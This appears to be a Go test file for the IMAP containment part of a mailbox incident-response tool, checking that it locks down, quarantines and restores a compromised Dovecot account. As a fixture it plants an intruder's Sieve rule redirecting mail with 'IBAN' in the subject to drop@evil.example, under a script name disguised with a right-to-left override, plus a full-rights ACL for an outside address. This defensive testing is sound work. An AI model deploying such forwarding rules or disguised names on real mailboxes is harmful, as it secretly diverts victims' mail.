package imap_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	collector "github.com/mbaudit/mbaudit/collectors/imap"
	"github.com/mbaudit/mbaudit/containment"
	"github.com/mbaudit/mbaudit/containment/imap"
	"github.com/mbaudit/mbaudit/internal/imapwire"
	"github.com/mbaudit/mbaudit/internal/managesieve"
	"github.com/mbaudit/mbaudit/internal/secret"
	"github.com/mbaudit/mbaudit/internal/servertest"
)

const account = "alice@example.test"

// hostile is an intruder's script: bytes that a careless copy would change, under a name that turns a line around.
const hostile = "require [\"copy\"];\n# r\u00e8gle\t \r\nif header :contains \"subject\" \"IBAN\" {\r\n  redirect \"drop@evil.example\";\n}\n"

const scriptName = ".\u202erules"

// A world is a Dovecot with an account that an intruder has been in, and the clients of who takes it back.
type world struct {
	*servertest.DovecotServer
	reader *collector.Collector

	mu    sync.Mutex
	asked []string // of doveadm's HTTP API, by command
}

func newWorld(t *testing.T) *world {
	t.Helper()
	w := &world{DovecotServer: servertest.Dovecot(t)}
	var err error
	w.reader, err = collector.New(collector.Config{URL: "imaps://localhost:" + strconv.Itoa(w.IMAPSPort), Sieve: "sieve://localhost:" + strconv.Itoa(w.SievePort),
		RootCAFile: w.CAFile, Password: secret.New(w.Password)})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// client is one that plans, or one that may change things. What
// doveadm is asked is written down.
func (w *world) client(t *testing.T, writes bool) *imap.Client {
	t.Helper()
	doveadm, err := imap.NewDoveadm(imap.DoveadmConfig{URL: w.DoveadmURL, Key: secret.New(w.DoveadmKey), Transport: w.recording()})
	if err != nil {
		t.Fatal(err)
	}
	c, err := imap.New(imap.Config{Account: account, Doveadm: doveadm, Writes: writes,
		Dial:      func(ctx context.Context) (*imapwire.Conn, error) { return w.reader.Dial(ctx, account) },
		DialSieve: func(ctx context.Context) (*managesieve.Conn, error) { return w.reader.DialSieve(ctx, account) },
		Judge: func(script []byte) imap.Judgement {
			return imap.Judgement{Hostile: strings.Contains(string(script), "evil.example"), Does: []containment.Text{{EN: "forwards", FR: "transf\u00e8re"}}}
		},
		Sleep: func(ctx context.Context, _ time.Duration) error { return ctx.Err() }})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}

type roundTrip func(*http.Request) (*http.Response, error)

func (f roundTrip) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func (w *world) recording() http.RoundTripper {
	return roundTrip(func(r *http.Request) (*http.Response, error) {
		dump, err := httputil.DumpRequestOut(r, true)
		if err != nil {
			return nil, err
		}
		_, body, _ := strings.Cut(string(dump), "\r\n\r\n")
		var commands [][]json.RawMessage
		var name string
		if err := json.Unmarshal([]byte(body), &commands); err != nil {
			return nil, err
		}
		if err := json.Unmarshal(commands[0][0], &name); err != nil {
			return nil, err
		}
		w.mu.Lock()
		w.asked = append(w.asked, name)
		w.mu.Unlock()
		return http.DefaultTransport.RoundTrip(r)
	})
}

// sieve opens a ManageSieve connection of the intruder's.
func (w *world) sieve(t *testing.T) *managesieve.Conn {
	t.Helper()
	conn, err := w.reader.DialSieve(t.Context(), account)
	if err != nil {
		t.Fatal(err)
	}
	conn.AllowChanges()
	t.Cleanup(func() { _ = conn.NetConn().Close() })
	return conn
}

// mail opens an IMAP connection that may send what the intruder sends.
func (w *world) mail(t *testing.T) *imapwire.Conn {
	t.Helper()
	conn, err := w.reader.Dial(t.Context(), account)
	if err != nil {
		t.Fatal(err)
	}
	conn.AllowChanges("SETACL", "DELETEACL", "SELECT", "UID STORE", "UID MOVE", "CREATE")
	t.Cleanup(func() { _ = conn.Close() })
	return conn
}

func do(t *testing.T, conn *imapwire.Conn, cmd *imapwire.Command) *imapwire.Answer {
	t.Helper()
	answer, err := conn.Do(cmd)
	if err != nil || !answer.OK() {
		t.Fatalf("%s: %v %+v", cmd.Shown(), err, answer)
	}
	return answer
}

// intrude does what the plan takes away: an active script, an entry for everybody and one for an address outside, and marks
// on a message.
func (w *world) intrude(t *testing.T) {
	t.Helper()
	s := w.sieve(t)
	for _, call := range []func() (*managesieve.Answer, error){
		func() (*managesieve.Answer, error) { return s.Store("mine", []byte("keep;\n")) },
		func() (*managesieve.Answer, error) { return s.Store(scriptName, []byte(hostile)) },
		func() (*managesieve.Answer, error) { return s.Activate(scriptName) },
	} {
		if answer, err := call(); err != nil || !answer.OK() {
			t.Fatalf("%v %+v", err, answer)
		}
	}
	m := w.mail(t)
	do(t, m, imapwire.NewCommand("SETACL").String("INBOX").String("bob@example.test").String("lrs"))
	do(t, m, imapwire.NewCommand("SETACL").String("INBOX").String("eve@evil.example").String("lrwstipekxa"))
}

// state is what the account is like, as others see it.
func (w *world) state(t *testing.T) map[string]string {
	t.Helper()
	s := w.sieve(t)
	state := map[string]string{}
	_, listed, err := s.List()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range listed {
		got, err := s.Get(l.Name)
		if err != nil {
			t.Fatal(err)
		}
		state["script "+l.Name] = string(got.Body)
		if l.Active {
			state["active"] = l.Name
		}
	}
	var entries []string
	for _, resp := range do(t, w.mail(t), imapwire.NewCommand("GETACL").String("INBOX")).Untagged {
		if resp.Name == "ACL" {
			scan := resp.Scan()
			for v, ok := scan.Next(); ok; v, ok = scan.Next() {
				entries = append(entries, string(v.Text()))
			}
		}
	}
	for i := 1; i+1 < len(entries); i += 2 {
		letters := strings.Split(entries[i+1], "")
		slices.Sort(letters)
		state["acl "+entries[i]] = strings.Join(letters, "")
	}
	return state
}

// plan plans with a client that only reads.
func (w *world) plan(t *testing.T) containment.Plan {
	t.Helper()
	client := w.client(t, false)
	p, err := client.Plan(t.Context(), imap.PlanOptions{Mode: containment.Lock, Case: "c", Server: "imaps://localhost", Now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	q, err := client.Plan(t.Context(), imap.PlanOptions{Mode: containment.Quarantine, Quarantine: []string{letterID}, Now: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range q.Steps { // in one plan, which tests as much in half of the time
		s.N = len(p.Steps) + 1
		p.Steps = append(p.Steps, s)
	}
	file, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	again, err := containment.Parse(file)
	if err != nil {
		t.Fatal(err)
	}
	for i := range again.Steps {
		if again.Steps[i].Decision == containment.Unknown {
			again.Steps[i].Decision = containment.Take
		}
	}
	return again
}

// A run is a plan being applied. It can be cut off at any moment, after which nothing more can be written.
type run struct {
	calls, cutAt int
	mu           sync.Mutex
	bodies       map[string][]byte // by kind
}

var errCut = errors.New("the power is cut")

func (r *run) cut() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.calls++
	return r.cutAt > 0 && r.calls >= r.cutAt
}

// A brittle action may lose its power before and after the change.
type brittle struct {
	containment.Action
	run *run
}

func (b brittle) Apply(ctx context.Context, s containment.Step, before containment.State) error {
	if b.run.cut() {
		return errCut
	}
	err := b.Action.Apply(ctx, s, before)
	if b.run.cut() {
		return errCut
	}
	return err
}

// A brittleKeeper is one whose target is kept whole.
type brittleKeeper struct{ brittle }

func (b brittleKeeper) Keep(ctx context.Context, s containment.Step) (containment.Original, error) {
	return b.Action.(containment.Keeper).Keep(ctx, s)
}

func (b brittle) Verify(ctx context.Context, s containment.Step) (containment.State, error) {
	return b.Action.(containment.Verifier).Verify(ctx, s)
}

func (w *world) runner(t *testing.T, path string, p containment.Plan, r *run) *containment.Runner {
	t.Helper()
	file, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	ledger, err := containment.OpenLedger(path, containment.Hash(file), time.Now)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ledger.Close() })
	client := w.client(t, true)
	actions := containment.Actions{}
	for kind, a := range client.Actions() {
		actions[kind] = brittle{a, r}
		if _, ok := a.(containment.Keeper); ok {
			actions[kind] = brittleKeeper{brittle{a, r}}
		}
	}
	return &containment.Runner{Actions: actions, Ledger: ledger, Now: time.Now,
		Journal: func(string, map[string]string) (func(string, error) error, error) {
			return func(_ string, err error) error {
				if errors.Is(err, errCut) {
					return errCut
				}
				return nil
			}, nil
		},
		Preserve: func(ctx context.Context, images []containment.Preimage) (string, error) {
			for _, image := range images {
				if image.Keep == nil {
					continue
				}
				original, err := image.Keep(ctx)
				if err != nil {
					return "", err
				}
				r.bodies[image.Step.Kind] = original.Body
			}
			return "01BUNDLE", nil
		}}
}

// kinds are those of a plan, in order.
func kinds(p containment.Plan) []string {
	var list []string
	for _, s := range p.Steps {
		list = append(list, s.Kind)
	}
	return list
}

// session logs in as a mail program does, and gives a function that reads what the server says next.
func (w *world) session(t *testing.T) *bufio.Reader {
	t.Helper()
	conn, err := tls.Dial("tcp", net.JoinHostPort("localhost", strconv.Itoa(w.IMAPSPort)), w.TLS(t))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	if err := conn.SetDeadline(time.Now().Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewReader(conn)
	fmt.Fprintf(conn, "a LOGIN %s \"%s\"\r\nb SELECT INBOX\r\n", account, w.Password)
	for {
		line, err := lines.ReadString('\n')
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasPrefix(line, "b OK") {
			fmt.Fprint(conn, "c IDLE\r\n")
			return lines
		}
	}
}

// letter is a message with bytes that a careless copy would change, and letterID its Message-ID.
const (
	letterID = "<wire-7@evil.example>"
	letter   = "From: boss@evil.example\r\nSubject: r\xe8glement\r\nMessage-ID: " + letterID + "\r\n\r\n.\r\nFrom here\t \r\n"
)

// deliver puts the letter and another one into the INBOX; the letter has the UID 1.
func (w *world) deliver(t *testing.T) {
	t.Helper()
	w.Save(t, account, "INBOX", letter)
	w.Save(t, account, "INBOX", "Subject: lunch\r\nMessage-ID: <lunch@example.test>\r\n\r\nnoon?\r\n")
}

// lies gives the marks of the letter in a folder, and how often it is there.
func (w *world) lies(t *testing.T, folder string) (flags string, times int) {
	t.Helper()
	m := w.mail(t)
	do(t, m, imapwire.NewCommand("EXAMINE").String(folder))
	uids := strings.Fields(string(do(t, m, imapwire.NewCommand("UID SEARCH").Atom("HEADER").Atom("MESSAGE-ID").String(letterID)).Untagged[0].Rest()))
	for _, uid := range uids {
		for _, resp := range do(t, m, imapwire.NewCommand("UID FETCH").Atom(uid).Atom("(FLAGS)")).Untagged {
			for name, value := range resp.Items() {
				if string(name) == "FLAGS" {
					flags = string(value.Text())
				}
			}
		}
	}
	return flags, len(uids)
}

// TestThereAndBack takes an account back and puts it as it was: the script deactivated and active again byte for byte, rights
// removed and given again, a live session thrown out, a message moved away and back with its marks.
func TestThereAndBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.deliver(t)
	w.intrude(t)
	m := w.mail(t)
	do(t, m, imapwire.NewCommand("SELECT").String("INBOX"))
	do(t, m, imapwire.NewCommand("UID STORE").Atom("1").Atom("FLAGS").Atom(`(\Flagged \Answered $MDNSent)`))
	_ = m.Close()
	flags, _ := w.lies(t, "INBOX")
	before := w.state(t)
	intruder := w.session(t)

	p := w.plan(t)
	want := []string{"doveadm.cache", "doveadm.kick", "sieve.active", "imap.acl", "imap.acl", "imap.folder", "imap.message"}
	if !slices.Equal(kinds(p), want) {
		t.Fatalf("the plan has %q", kinds(p))
	}
	if got := w.asked; slices.ContainsFunc(got, func(name string) bool { return name != "who" }) {
		t.Errorf("to plan, doveadm was asked for %q", got)
	}
	if after := w.state(t); !mapsEqual(before, after) {
		t.Errorf("planning changed something: %v", after)
	}
	r := &run{bodies: map[string][]byte{}}
	runner := w.runner(t, filepath.Join(t.TempDir(), "ledger.jsonl"), p, r)
	result, err := runner.Apply(t.Context(), p)
	if err != nil || len(result.Done) != len(p.Steps) {
		t.Fatalf("applied: %+v, %v", result, err)
	}
	for {
		line, err := intruder.ReadString('\n')
		if strings.HasPrefix(line, "* BYE") || err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
			break
		}
		if err != nil {
			t.Fatalf("the session goes on: %v", err)
		}
	}
	now := w.state(t)
	if now["active"] != "" || now["script "+scriptName] != hostile || now["acl bob@example.test"] != "" || now["acl eve@evil.example"] != "" {
		t.Errorf("after it: %v", now)
	}
	if string(r.bodies["sieve.active"]) != hostile || string(r.bodies["imap.message"]) != letter {
		t.Errorf("saved before were %q", r.bodies)
	}
	marks, moved := w.lies(t, imap.QuarantineName)
	if _, left := w.lies(t, "INBOX"); left != 0 || moved != 1 || marksOf(marks) != marksOf(flags) || !strings.Contains(marks, "$MDNSent") {
		t.Errorf("the letter is %d times in the INBOX and %d times in quarantine, with %s; it had %s", left, moved, marks, flags)
	}
	for _, c := range runner.Verify(t.Context(), p, nil) {
		if c.Verdict != containment.Stands && c.Step.Kind != "doveadm.cache" {
			t.Errorf("%s: %s %s", c.Step.Kind, c.Verdict, c.Err)
		}
	}
	if answer, err := w.sieve(t).Activate("mine"); err != nil || !answer.OK() {
		t.Fatal(err)
	}
	if i := slices.IndexFunc(runner.Verify(t.Context(), p, nil), func(c containment.Check) bool { return c.Step.Kind == "sieve.active" && c.Verdict == containment.Back }); i < 0 {
		t.Error("another script is active, and nobody says so")
	}
	if answer, err := w.sieve(t).Activate(""); err != nil || !answer.OK() {
		t.Fatal(err)
	}
	unmade, err := runner.Undo(t.Context(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range unmade {
		if u.Err != nil && !errors.Is(u.Err, containment.ErrIrreversible) {
			t.Errorf("undoing %s: %v", u.Step.Kind, u.Err)
		}
	}
	if after := w.state(t); !mapsEqual(before, after) {
		t.Errorf("undone, it is %v\nand was %v", after, before)
	}
	if marks, back := w.lies(t, "INBOX"); back != 1 || marksOf(marks) != marksOf(flags) {
		t.Errorf("it is back %d times, with %s", back, marks)
	}
	if events, err := os.ReadFile(w.EventLog); err != nil || strings.Contains(string(events), `"cmd_name":"EXPUNGE"`) || strings.Contains(string(events), `"cmd_name":"DELETE"`) || strings.Contains(string(events), `"cmd_name":"SUBSCRIBE"`) {
		t.Errorf("something was deleted or subscribed, %v", err)
	}
}

// marksOf are flags without \Recent, which a server sets itself.
func marksOf(flags string) string {
	words := slices.DeleteFunc(strings.Fields(flags), func(w string) bool { return w == `\Recent` })
	slices.Sort(words)
	return strings.Join(words, " ")
}

func mapsEqual(a, b map[string]string) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return string(x) == string(y)
}

// TestAPreviewOnlyReads plans with what the server logs of each command.
func TestAPreviewOnlyReads(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.deliver(t)
	w.intrude(t)
	servertest.WaitForLine(t, w.EventLog, "eve@evil.example") // the last of what the intruder sent
	before, err := os.ReadFile(w.EventLog)
	if err != nil {
		t.Fatal(err)
	}
	client := w.client(t, false)
	for mode, steps := range map[containment.Mode]int{containment.Lock: 5, containment.Precaution: 2, containment.Quarantine: 2} {
		p, err := client.Plan(t.Context(), imap.PlanOptions{Mode: mode, Quarantine: []string{letterID}, Now: time.Now()})
		if err != nil || len(p.Steps) != steps {
			t.Fatalf("%s: %d steps, %v", mode, len(p.Steps), err)
		}
	}
	client.Close()
	if _, err := w.mail(t).Do(imapwire.NewCommand("EXAMINE").String("the-end")); err != nil {
		t.Fatal(err)
	}
	servertest.WaitForLine(t, w.EventLog, "the-end")
	after, err := os.ReadFile(w.EventLog)
	if err != nil {
		t.Fatal(err)
	}
	reads := []string{"CAPABILITY", "NAMESPACE", "LIST", "EXAMINE", "UID SEARCH", "UID FETCH", "GETACL", "STATUS", "LOGOUT", "UNSELECT"}
	seen := 0
	for line := range strings.Lines(string(after[len(before):])) {
		var event struct {
			Fields struct {
				Name string `json:"cmd_name"`
			} `json:"fields"`
		}
		if err := json.Unmarshal([]byte(line), &event); err != nil {
			t.Fatal(err)
		}
		if seen++; !slices.Contains(reads, event.Fields.Name) {
			t.Errorf("it sent %q", event.Fields.Name)
		}
	}
	if seen < 10 {
		t.Errorf("only %d commands were logged", seen)
	}
	for kind, a := range client.Actions() {
		if err := a.Apply(t.Context(), containment.Step{Kind: kind}, containment.State{}); !errors.Is(err, imap.ErrReadOnly) {
			t.Errorf("%s: a client that plans applies: %v", kind, err)
		}
	}
}

// TestPowerCutAnywhere cuts the power before and after each change, and goes on: everything is
// done, the message is once in quarantine, and undo puts all back.
func TestPowerCutAnywhere(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.deliver(t)
	w.intrude(t)
	before := w.state(t)
	cuts := 0
	for cutAt := 1; ; cutAt++ {
		p := w.plan(t)
		path := filepath.Join(t.TempDir(), "ledger.jsonl")
		r := &run{cutAt: cutAt, bodies: map[string][]byte{}}
		first := w.runner(t, path, p, r)
		first.Parallel = 1
		if _, err := first.Apply(t.Context(), p); err == nil && r.calls < cutAt {
			break
		}
		cuts++
		second := w.runner(t, path, p, &run{bodies: map[string][]byte{}})
		result, err := second.Apply(t.Context(), p)
		if err != nil || len(result.Failed) > 0 || len(result.Done)+len(result.Held) != len(p.Steps) {
			t.Fatalf("cut at %d: %+v, %v", cutAt, result, err)
		}
		now := w.state(t)
		if _, kept := w.lies(t, imap.QuarantineName); kept != 1 || now["active"] != "" || now["acl eve@evil.example"] != "" {
			t.Errorf("cut at %d: the letter is %d times in quarantine, %v", cutAt, kept, now)
		}
		if _, err := second.Undo(t.Context(), p, nil); err != nil {
			t.Fatal(err)
		}
		if after := w.state(t); !mapsEqual(before, after) {
			t.Fatalf("cut at %d: undone, it is %v", cutAt, after)
		}
	}
	if cuts < 12 {
		t.Errorf("only %d cuts", cuts)
	}
}

// TestStale refuses a plan whose targets have changed, each in its way, and changes nothing.
func TestStale(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.deliver(t)
	w.intrude(t)
	for kind, change := range map[string]func(){
		"sieve.active": func() {
			if answer, err := w.sieve(t).Store(scriptName, []byte(hostile+"# more\n")); err != nil || !answer.OK() {
				t.Fatal(err)
			}
		},
		"imap.acl": func() {
			do(t, w.mail(t), imapwire.NewCommand("SETACL").String("INBOX").String("eve@evil.example").String("lr"))
		},
		"imap.message": func() {
			m := w.mail(t)
			do(t, m, imapwire.NewCommand("CREATE").String("elsewhere"))
			do(t, m, imapwire.NewCommand("SELECT").String("INBOX"))
			do(t, m, imapwire.NewCommand("UID MOVE").Atom("1").String("elsewhere"))
		},
	} {
		p := w.plan(t)
		change()
		before := w.state(t)
		_, err := w.runner(t, filepath.Join(t.TempDir(), "ledger.jsonl"), p, &run{bodies: map[string][]byte{}}).Apply(t.Context(), p)
		var stale *containment.StaleError
		if !errors.As(err, &stale) || len(stale.Differences) != 1 || stale.Differences[0].Step.Kind != kind {
			t.Errorf("%s: %v", kind, err)
		}
		if after := w.state(t); !mapsEqual(before, after) {
			t.Errorf("%s: it was changed: %v", kind, after)
		}
	}
	if slices.Contains(w.asked, "kick") {
		t.Error("sessions were ended by a plan that was refused")
	}
}

// TestDoveadmOfAnotherServer plans no end of sessions where doveadm does not know the account, and says so.
func TestDoveadmOfAnotherServer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	doveadm, err := imap.NewDoveadm(imap.DoveadmConfig{URL: w.DoveadmURL, Key: secret.New(w.DoveadmKey)})
	if err != nil {
		t.Fatal(err)
	}
	for login, want := range map[string]string{"alice": "by another name", "*": "a pattern of several accounts"} {
		c, err := imap.New(imap.Config{Account: account, Login: login, Doveadm: doveadm, Dial: func(ctx context.Context) (*imapwire.Conn, error) { return w.reader.Dial(ctx, account) },
			Sleep: func(ctx context.Context, _ time.Duration) error { return ctx.Err() }})
		if err != nil {
			t.Fatal(err)
		}
		p, err := c.Plan(t.Context(), imap.PlanOptions{Mode: containment.Precaution, Now: time.Now()})
		c.Close()
		if err != nil || len(p.Steps) != 0 || !slices.ContainsFunc(p.Warnings, func(warning containment.Warning) bool {
			return warning.Kind == "unread" && strings.Contains(warning.Text.EN, want)
		}) {
			t.Errorf("%s: %+v, %v", login, p, err)
		}
	}
	for url, ok := range map[string]bool{"http://127.0.0.1:8080": true, "http://localhost": true, "https://mail.example.com:8080/": true, "http://mail.example.com": false, "ftp://x": false, "https://u:p@x": false, "https://x/path": false, "": false} {
		if _, err := imap.NewDoveadm(imap.DoveadmConfig{URL: url, Key: secret.New("key")}); (err == nil) != ok {
			t.Errorf("%q: %v", url, err)
		}
	}
	if _, err := imap.NewDoveadm(imap.DoveadmConfig{URL: "http://127.0.0.1"}); !errors.Is(err, imap.ErrDoveadm) {
		t.Errorf("without a key: %v", err)
	}
}

// TestUndoLeavesWhatIsNewer does not write over what somebody did since.
func TestUndoLeavesWhatIsNewer(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.intrude(t)
	p := w.plan(t)
	runner := w.runner(t, filepath.Join(t.TempDir(), "ledger.jsonl"), p, &run{bodies: map[string][]byte{}})
	if result, err := runner.Apply(t.Context(), p); err != nil || len(result.Failed) > 0 {
		t.Fatal(result, err)
	}
	if answer, err := w.sieve(t).Store(scriptName, []byte("keep;\n")); err != nil || !answer.OK() {
		t.Fatal(err)
	}
	do(t, w.mail(t), imapwire.NewCommand("SETACL").String("INBOX").String("eve@evil.example").String("l"))
	before := w.state(t)
	delete(before, "acl bob@example.test")
	unmade, err := runner.Undo(t.Context(), p, nil)
	if err != nil {
		t.Fatal(err)
	}
	failed := 0
	for _, u := range unmade {
		if u.Err != nil && !errors.Is(u.Err, containment.ErrIrreversible) {
			failed++
		}
	}
	after := w.state(t)
	delete(after, "acl bob@example.test")
	if failed != 2 || !mapsEqual(before, after) {
		t.Errorf("%d failed; it is %v", failed, after)
	}
}
